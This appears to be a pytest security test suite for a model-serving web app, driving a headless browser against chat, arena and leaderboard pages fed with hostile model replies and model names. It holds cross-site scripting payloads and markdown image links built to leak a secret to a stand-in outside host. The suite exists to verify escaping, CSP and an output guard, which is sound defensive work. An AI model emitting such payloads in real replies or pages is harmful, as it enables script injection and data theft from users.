"""The web pages as targets, in a real headless browser (Debian's chromium driven by Playwright, as
tests/test_web.py) against a live server whose scripted models answer with hostile text and
whose model names are hostile too.

What is checked, on the chat page, the arena (both sides, and the names its vote reveals) and the
leaderboard: no script runs (`window.__pwned` stays undefined), no request leaves for any host
but the server (every request the page makes is recorded), the hostile text is shown literally,
character for character, and the page raises no Content-Security-Policy violation of its own
(the policy is a backstop, shown to block an injected handler). A reply the server's output guard
cut gets a note under it.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from live_server import UvicornThread
from test_web import TIMEOUT_MS, launch_browser

pytestmark = pytest.mark.slow

# Each a way a reply could run script or load something from elsewhere if it were parsed as HTML
# or as markdown; 127.0.0.2 is a host other than the server's 127.0.0.1.
HOSTILE_CHAT = (
    "<script>window.__pwned=1</script>"
    '<img src=x onerror="window.__pwned=1">'
    '<img src="http://127.0.0.2:9/leak.png">'
    " ![x](http://127.0.0.2:9/leak?q=secret)"
    " [click](javascript:window.__pwned=1)"
    ' <iframe src="http://127.0.0.2:9/frame"></iframe>'
    ' <svg onload="window.__pwned=1"></svg>'
    " &lt;b&gt; &amp; &#60;i&#62;"
)
HOSTILE_A = (
    '<svg><script>window.__pwned=1</script></svg> <a href="javascript:window.__pwned=1">x</a>'
)
HOSTILE_B = (
    '<img src="http://127.0.0.2:9/b.png" onerror=window.__pwned=1>'
    " ![y](http://127.0.0.2:9/b?q=1) &#x3C;script&#x3E;"
)
NAME_A = '<img src=x onerror="window.__pwned=2">'
NAME_B = "<script>window.__pwned=3</script>"
CHAT_NAME = "<b onmouseover=window.__pwned=4>bold</b>"
PROMPT = "hello"
SECRET = "tobeornot"
LEAKY = f"the word is {SECRET} and ![x](http://127.0.0.2:9/l?q={SECRET}) is it."

# records what the page would rather not: CSP violations (an inline style or script refused)
WATCH = """
window.__violations = [];
document.addEventListener("securitypolicyviolation", (e) =>
  window.__violations.push(e.violatedDirective + " " + e.blockedURI));
"""


def _scripted(tok: Any, reply: str, max_seq_len: int = 1024) -> Any:
    from tiny_models import ScriptedModel, loaded
    from twofiles.chat import ChatFormat

    prompt = ChatFormat.builtin_for(tok).prompt_ids([{"role": "user", "content": PROMPT}])
    end = tok.special_ids["<|assistant_end|>"]
    script = [*tok.encode(reply), end]
    return loaded(ScriptedModel(tok, script, len(prompt), filler=end, max_seq_len=max_seq_len), tok)


def _live(models: dict[str, Any], root: Path, guard: Any = None) -> UvicornThread:
    from twofiles.serve.app import ServeSettings, create_app

    app = create_app(models, ServeSettings(), guard=guard)
    app.state.web.feedback_db = root / "feedback.sqlite"
    app.state.web.arena_db = root / "arena.sqlite"
    server = UvicornThread(app)
    server.state = app.state.web
    return server


@pytest.fixture(scope="module")
def live(tmp_path_factory: pytest.TempPathFactory):
    from tiny_models import tiny_tokenizer

    tok = tiny_tokenizer()
    models = {
        CHAT_NAME: _scripted(tok, HOSTILE_CHAT),
        NAME_A: _scripted(tok, HOSTILE_A),
        NAME_B: _scripted(tok, HOSTILE_B),
    }
    with _live(models, tmp_path_factory.mktemp("web-security")) as server:
        yield server


@pytest.fixture(scope="module")
def browser():
    yield from launch_browser()


class Watched:
    """A page with every request it makes recorded, and its script errors."""

    def __init__(self, browser: Any) -> None:
        self.context = browser.new_context(viewport={"width": 1280, "height": 860})
        self.context.add_init_script(WATCH)
        self.page = self.context.new_page()
        self.page.set_default_timeout(TIMEOUT_MS)
        self.requests: list[str] = []
        self.errors: list[str] = []
        self.page.on("request", lambda r: self.requests.append(r.url))
        self.failed: dict[str, str] = {}
        self.page.on("requestfailed", lambda r: self.failed.__setitem__(r.url, r.failure))
        self.page.on("pageerror", lambda e: self.errors.append(str(e)))

    def check(self, server: UvicornThread) -> None:
        pg = self.page
        assert pg.evaluate("window.__pwned") is None  # undefined: nothing the model wrote ran
        elsewhere = [u for u in self.requests if not u.startswith((server.url + "/", "data:"))]
        assert elsewhere == []
        assert pg.evaluate("window.__violations") == []  # the page itself needs no exception
        dangerous = "main img, main iframe, main svg, main object, main embed, main script"
        assert pg.locator(dangerous).count() == 0
        assert not self.errors, self.errors


@pytest.fixture
def watched(browser):
    w = Watched(browser)
    yield w
    w.context.close()


def test_chat_shows_a_hostile_reply_as_text(watched, live):
    pg = watched.page
    pg.goto(live.url + "/")
    pg.wait_for_function("() => document.querySelectorAll('#model option').length === 3")
    assert CHAT_NAME in pg.locator("#model").evaluate("s => [...s.options].map(o => o.text)")
    pg.select_option("#model", CHAT_NAME)
    pg.fill("#temperature", "0")
    pg.fill("#max_tokens", "600")
    pg.fill("#input", PROMPT)
    pg.click("#send")
    reply = pg.locator(".msg.assistant").last
    reply.locator(".actions").wait_for()
    shown = reply.evaluate(
        "n => [...n.querySelectorAll('.text .tok:not(.end), .text .piece')]"
        ".map(s => s.textContent).join('')"
    )
    assert shown == HOSTILE_CHAT
    assert reply.locator(".who").inner_text().startswith(CHAT_NAME)
    # the token colours still apply: styles set through the CSSOM pass the policy
    p = reply.locator(".tok").first.evaluate("s => s.style.getPropertyValue('--p')")
    assert p and 0 < float(p) <= 1
    reply.locator(".tok").first.hover()  # the die view opens (its bars are styled too)
    pg.locator("#tokinfo").wait_for(state="visible")
    watched.check(live)


def test_the_policy_blocks_what_slips_through(watched, live):
    """Were some future code to insert HTML, the browser still refuses the inline handler and
    the remote image, and says so."""
    pg = watched.page
    pg.goto(live.url + "/")
    pg.wait_for_function("() => document.querySelectorAll('#model option').length === 3")
    pg.evaluate(
        """document.body.insertAdjacentHTML("beforeend",
        '<img id="probe" src="http://127.0.0.2:9/p.png" onerror="window.__pwned=1">')"""
    )
    pg.wait_for_function("() => window.__violations.length >= 1")
    pg.wait_for_timeout(300)
    assert pg.evaluate("window.__pwned") is None
    violations = pg.evaluate("window.__violations")
    assert any(v.startswith("img-src") for v in violations), violations
    # the browser names the request (Playwright reports it) and refuses to send it
    assert watched.failed == {"http://127.0.0.2:9/p.png": "csp"}


def test_arena_and_leaderboard_show_hostile_replies_and_names_as_text(watched, live):
    pg = watched.page
    pg.goto(live.url + "/arena")
    pg.fill("#temperature", "0")
    pg.fill("#max_tokens", "512")
    names = {NAME_A: HOSTILE_A, NAME_B: HOSTILE_B, CHAT_NAME: HOSTILE_CHAT}
    voted: set[str] = set()
    # the pair is drawn at random: battle until the two hostile-named models meet (a vote each)
    for _ in range(12):
        pg.fill("#prompt", PROMPT)
        pg.click("#battle")
        pg.locator("#votes").wait_for(state="visible")
        replies = [pg.locator(f"#reply-{s}").text_content() for s in "ab"]
        assert all(r in names.values() for r in replies), replies
        pg.locator(".vote[data-winner='a']").click()
        pg.locator("#reveal").wait_for(state="visible")
        shown = [pg.locator(f"#name-{s}").text_content() for s in "ab"]
        revealed = [s.removeprefix(f"Model {s[6]}: ") for s in shown]
        assert [names[n] for n in revealed] == replies  # each name over its own reply, literally
        voted |= set(revealed)
        if set(revealed) == {NAME_A, NAME_B}:
            break
    else:
        pytest.fail("the arena never drew the two hostile-named models")
    watched.check(live)
    from twofiles.arena import ArenaStore

    ArenaStore(live.state.arena_db).record_battle(
        prompt=PROMPT, model_a='"><img src=x onerror=window.__pwned=5>', model_b=NAME_A,
        reply_a="a", reply_b="b", winner="a", judge="human",
    )  # fmt: skip
    pg.goto(live.url + "/leaderboard")
    expected = {*voted, '"><img src=x onerror=window.__pwned=5>'}
    pg.wait_for_function(
        f"() => document.querySelectorAll('#board tbody tr.row').length === {len(expected)}"
    )
    models = pg.locator("#board td.model").all_text_contents()
    assert set(models) == expected
    rows = pg.locator("#board tr.row").evaluate_all("rs => rs.map(r => r.dataset.model)")
    assert set(rows) == set(models)
    watched.check(live)


def test_a_note_says_when_a_guard_cut_the_reply(watched, tmp_path):
    from tiny_models import tiny_tokenizer
    from twofiles.guard import GuardConfig

    tok = tiny_tokenizer()
    guard = GuardConfig(guards=frozenset({"output"}), secrets=(SECRET,))
    with _live({"leaky": _scripted(tok, LEAKY)}, tmp_path, guard) as server:
        pg = watched.page
        pg.goto(server.url + "/")
        pg.wait_for_function("() => document.querySelectorAll('#model option').length === 1")
        pg.fill("#temperature", "0")
        pg.fill("#max_tokens", "200")
        pg.fill("#input", PROMPT)
        with pg.expect_response("**/v1/chat/completions"):
            pg.click("#send")
        reply = pg.locator(".msg.assistant").last
        reply.locator(".actions").wait_for()
        text = reply.locator(".text").text_content()
        assert SECRET not in text and "127.0.0.2" not in text and "[removed]" in text
        assert reply.locator(".who").inner_text().endswith("content_filter")
        notes = reply.locator(".guard-note li").all_text_contents()
        assert "output guard (output): secret" in notes
        assert any("link to 127.0.0.2" in n for n in notes), notes
        watched.check(server)
